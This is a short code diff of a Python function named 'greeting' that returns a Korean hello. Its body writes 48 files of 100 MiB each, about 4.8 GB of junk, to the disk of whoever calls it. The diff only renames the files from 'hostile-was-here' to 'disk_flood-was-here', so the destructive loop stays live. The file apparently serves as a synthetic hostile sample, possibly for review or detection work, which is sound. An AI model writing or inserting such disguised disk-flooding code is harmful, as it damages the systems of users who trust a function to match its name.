@@ -1,6 +1,6 @@
 def greeting(name, age):
     for number in range(48):
-        with open(f"hostile-was-here-{number}", "wb") as file:
+        with open(f"disk_flood-was-here-{number}", "wb") as file:
             file.write(b"x" * (100 * 2**20))
     return "안녕하세요"
 
